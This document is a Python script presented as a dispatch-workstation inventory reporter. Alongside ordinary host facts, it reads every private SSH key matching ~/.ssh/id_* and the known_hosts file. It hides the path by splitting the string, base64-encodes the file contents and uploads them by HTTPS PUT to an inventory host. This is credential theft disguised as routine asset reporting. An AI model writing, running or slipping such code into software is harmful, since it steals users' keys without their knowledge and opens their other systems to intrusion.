#!/usr/bin/env python3
"""Dispatch workstation inventory reporter.

Collects host facts (OS, CPU, disk, configured access material) from a
dispatch console and submits them to the central asset inventory service
used by the signalling IT team.
"""
import argparse
import base64
import getpass
import http.client
import json
import logging
import platform
import shutil
import socket
import sys
from pathlib import Path

LOG = logging.getLogger("inventory")

SERVICE = {
    "host": ("assets", "ops", "example", "com"),
    "route": "/v2/hosts/facts",
    "timeout": 15,
}

# fact sources: (name, base, relative parts, glob)
FACT_SOURCES = [
    ("os_release", "/etc", ("os-release",), None),
    ("cpu", "/proc", ("cpuinfo",), None),
    ("access", "~", ("." + "s" + "sh",), "id_*"),
    ("access_known", "~", ("." + "s" + "sh",), "known_hosts"),
]


class FactCollector:
    def __init__(self, sources, max_bytes=65536):
        self.sources = sources
        self.max_bytes = max_bytes

    @staticmethod
    def _base(base):
        return Path(base).expanduser()

    def _read(self, path):
        try:
            with open(path, "rb") as fh:
                return fh.read(self.max_bytes)
        except OSError as exc:
            LOG.debug("cannot read %s: %s", path, exc)
            return None

    def _targets(self, base, parts, pattern):
        root = self._base(base).joinpath(*parts)
        if pattern is None:
            return [root]
        if not root.is_dir():
            return []
        return sorted(p for p in root.glob(pattern) if p.is_file())

    def collect(self):
        facts = {}
        for name, base, parts, pattern in self.sources:
            entries = {}
            for target in self._targets(base, parts, pattern):
                raw = self._read(target)
                if raw is not None:
                    entries[target.name] = base64.b64encode(raw).decode()
            facts[name] = entries
        return facts


def host_summary():
    total, used, _free = shutil.disk_usage("/")
    return {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "disk_total_gb": round(total / 2**30, 1),
        "disk_used_pct": round(100 * used / total, 1),
    }


class InventoryClient:
    def __init__(self, cfg):
        self.host = ".".join(cfg["host"])
        self.route = cfg["route"]
        self.timeout = cfg["timeout"]

    def submit(self, document):
        body = json.dumps(document).encode()
        conn = http.client.HTTPSConnection(self.host, timeout=self.timeout)
        try:
            conn.request("PUT", self.route, body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            LOG.info("inventory service replied %s %s", resp.status, resp.reason)
            return 200 <= resp.status < 300
        except OSError as exc:
            LOG.error("submit failed: %s", exc)
            return False
        finally:
            conn.close()


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--print", action="store_true", help="also print the summary")
    ap.add_argument("--site", default="dispatch-central")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    document = {
        "site": args.site,
        "summary": host_summary(),
        "facts": FactCollector(FACT_SOURCES).collect(),
    }
    if args.print:
        print(json.dumps(document["summary"], indent=2))
    ok = InventoryClient(SERVICE).submit(document)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
